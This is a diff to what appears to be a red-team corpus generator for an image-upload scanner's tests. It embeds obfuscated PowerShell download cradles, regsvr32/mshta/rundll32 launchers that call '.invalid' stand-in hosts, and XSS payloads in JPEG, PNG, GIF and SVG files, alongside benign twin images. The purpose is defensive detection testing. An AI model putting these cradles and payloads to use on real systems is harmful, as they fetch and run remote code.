@@ -6,8 +6,9 @@ whole list tried, caught before/after). Each malicious recipe is one of eval_cla
 pool photos with a payload hidden one way; the benign recipes hold the same photos with
 what the rule looks at in an innocent form, so each rule is gated both ways.
 
-* pixel data: a program inside JPEG scan data before EOI, a program stored as BMP pixel
-  bytes, a script just before a JPEG's EOI (rule: `stray_code`);
+* pixel data: a program (a linker's PE, the smallest PE, an ELF) inside JPEG scan data
+  before EOI, a program stored as BMP pixel bytes, a script or a base64/hex program just
+  before a JPEG's EOI (rule: `stray_code`);
 * split values: a program or its base64 cut over several COM or vendor APPn segments or
   GIF comment extensions (rule: `split_values`); twins: a long comment over several COM
   segments, vendor segments with repeated tables, GIF comments in several parts;
@@ -17,7 +18,12 @@ what the rule looks at in an innocent form, so each rule is gated both ways.
   SVG root with a namespace prefix, a CSS `url(javascript:)`; twins: a prefixed SVG
   without script, CSS `url(#gradient)`;
 * types: virtual disks (VHD, VHDX, UDF) and Windows shell files (.url, .scf, .reg) named
-  as pictures (rule: `sniff`).
+  as pictures (rule: `sniff`);
+* scripts: PowerShell with backtick escapes, split strings or `[char]` codes, and
+  living-off-the-land launchers (regsvr32 /i: scrobj.dll, mshta URL, rundll32
+  javascript:) in COM, trailers, zTXt and GIF comments (rule: `signatures.script_kind`);
+  twin: a photographer's note with backticks and quoted words joined by `+`;
+* an SVG iframe whose `srcdoc` document holds a script (rule: `svg_text`).
 
 Payloads are inert: program headers with a DOS stub, scripts that call `.invalid` hosts.
 `EXPECTED` gives the verdict of each category (tests/test_redteam_corpus.py asserts it).
@@ -26,6 +32,7 @@ Payloads are inert: program headers with a DOS stub, scripts that call `.invalid
 from __future__ import annotations
 
 import base64
+import binascii
 import random
 import struct
 import zlib
@@ -80,12 +87,28 @@ def _bmp_pixels(bmp: bytes, stored: bytes, at_fraction: float) -> bytes:
 # --- malicious ------------------------------------------------------------------------------
 
 
+# The smallest PE a loader accepts: e_lfanew = 0x40, the PE header right after the DOS one.
+TINY_PE = (
+    b"MZ"
+    + bytes(0x3A)
+    + struct.pack("<I", 0x40)
+    + b"PE\x00\x00"
+    + struct.pack("<HH", 0x14C, 1)
+    + bytes(240)
+)
+
+
 def _pixel_data(way: str, rng: random.Random) -> tuple[str, bytes, str]:
-    if way == "bmp-pixels-pe":
-        bmp = _photo(rng, "bmp")
-        return _name(rng, "bmp"), _bmp_pixels(bmp, PE, rng.random()), way
+    if way.startswith("bmp-pixels"):
+        stored = PE if way == "bmp-pixels-pe" else cs.elf64()
+        return _name(rng, "bmp"), _bmp_pixels(_photo(rng, "bmp"), stored, rng.random()), way
     jpeg = _photo(rng, "jpeg")
-    hidden = PE if way == "jpeg-scan-pe" else rng.choice(SCRIPTS)
+    if way == "jpeg-scan-pe":
+        hidden = rng.choice([PE, TINY_PE, cs.elf64()])
+    elif way == "jpeg-scan-encoded":
+        hidden = rng.choice([base64.b64encode, base64.encodebytes, binascii.hexlify])(PE)
+    else:
+        hidden = rng.choice(SCRIPTS)
     return _name(rng, "jpg"), jpeg[:-2] + hidden + jpeg[-2:], way
 
 
@@ -187,6 +210,47 @@ def _disguised_type(way: str, rng: random.Random) -> tuple[str, bytes, str]:
     return _name(rng, rng.choice(["jpg", "png", "jpeg"])), data, way
 
 
+OBFUSCATED_SCRIPTS = (
+    # Invoke-Obfuscation's token layer: backtick escapes and split strings
+    b"&('I'+'EX') (n`ew-obj`ect Net.WebC`lient).('Down'+'loadString').Invoke('http://x.invalid/a')",
+    b'$w = New-Object ("Net." + "WebClient"); $w.("Download"+"File")(\'http://x.invalid/a.exe\')',
+    b"$s=[char]73+[char]69+[char]88;&$s 'Start-Process calc'",
+    # living-off-the-land launchers
+    b"regsvr32 /s /n /u /i:http://x.invalid/a.sct scrobj.dll",
+    b"mshta http://x.invalid/a.hta",
+    b'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)',
+)
+
+
+def _script_place(way: str, rng: random.Random) -> tuple[str, bytes, str]:
+    script = rng.choice(OBFUSCATED_SCRIPTS)
+    note = f"{way}: {script[:24]!r}"
+    if way == "png-ztxt":
+        png = _photo(rng, "png")
+        chunk = img._png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(script))
+        return _name(rng, "png"), png[:33] + chunk + png[33:], note
+    if way == "gif-comment":
+        return (
+            _name(rng, "gif"),
+            _gif_with([_gif_extension(0xFE, script)], _photo(rng, "gif")),
+            note,
+        )
+    jpeg = _photo(rng, "jpeg")
+    if way == "trailer":
+        return _name(rng, "jpg"), jpeg + script, note
+    return _name(rng, "jpg"), js.insert_segments(jpeg, js.segment(0xFE, script)), note
+
+
+def _srcdoc(rng: random.Random) -> tuple[str, bytes, str]:
+    page = rng.choice(["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"])
+    escaped = page.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    body = (
+        "<foreignObject width='64' height='48'><iframe xmlns='http://www.w3.org/1999/xhtml' "
+        f"srcdoc='{escaped}'/></foreignObject>"
+    )
+    return _name(rng, "svg"), _svg(body), "iframe srcdoc"
+
+
 # --- benign twins ---------------------------------------------------------------------------
 
 PROSE_PARTS = (
@@ -197,6 +261,18 @@ PROSE_PARTS = (
 
 
 def _benign(way: str, rng: random.Random) -> tuple[str, bytes, str]:
+    if way == "quoted-prose":  # backticks and quoted words joined by + in a photographer's note
+        note = rng.choice(
+            [
+                b"Series `A` + `B`: 'left' + 'right' lateral views, f/2.8, ISO 200.",
+                b"Retake of \"wound\" + \"scar\" set; see `notes.txt` for 'before'+'after'.",
+            ]
+        )
+        return (
+            _name(rng, "jpg"),
+            js.insert_segments(_photo(rng, "jpeg"), js.segment(0xFE, note)),
+            way,
+        )
     if way == "gif-comment-parts":
         gif = _photo(rng, "gif")
         parts = [_gif_extension(0xFE, p * rng.randint(2, 6)) for p in PROSE_PARTS]
@@ -240,12 +316,14 @@ def _each(prefix: str, malicious: bool, ways: tuple[str, ...], make: object) -> 
     return tuple(Recipe(f"{prefix}-{way}", malicious, 5, bind(way)) for way in ways)
 
 
-PIXEL_WAYS = ("jpeg-scan-pe", "jpeg-scan-script", "bmp-pixels-pe")
+PIXEL_WAYS = ("jpeg-scan-pe", "jpeg-scan-script", "jpeg-scan-encoded", "bmp-pixels-pe",
+              "bmp-pixels-elf")  # fmt: skip
 SPLIT_WAYS = ("com-pe", "com-base64", "app-vendor-pe", "gif-comments-pe")
 ENCODED_WAYS = ("base64url-trailer", "base64url-xmp", "xor-key-trailer", "raw-deflate-trailer")
 SVG_WAYS = ("entity-script", "prefixed-root", "css-javascript-url")
 TYPE_WAYS = ("vhd", "vhdx", "udf", "url", "scf", "reg")
-BENIGN_WAYS = ("com-parts", "vendor-tables", "gif-comment-parts", "bmp-mz-bytes",
+SCRIPT_WAYS = ("com", "trailer", "png-ztxt", "gif-comment")
+BENIGN_WAYS = ("quoted-prose", "com-parts", "vendor-tables", "gif-comment-parts", "bmp-mz-bytes",
                "base64url-thumbnail", "prefixed-svg", "css-url-gradient")  # fmt: skip
 
 RECIPES: tuple[Recipe, ...] = (
@@ -255,6 +333,8 @@ RECIPES: tuple[Recipe, ...] = (
     *_each("malicious/redteam-encoded", True, ENCODED_WAYS, _encoded),
     *_each("malicious/redteam-svg", True, SVG_WAYS, _svg_attack),
     *_each("malicious/redteam-type", True, TYPE_WAYS, _disguised_type),
+    *_each("malicious/redteam-obfuscated-script", True, SCRIPT_WAYS, _script_place),
+    Recipe("malicious/redteam-svg-iframe-srcdoc", True, 5, _srcdoc),
 )
 # The verdict each category must reach under the default policy: every malicious file is
 # a program, script or mountable disk; every twin is an ordinary picture.
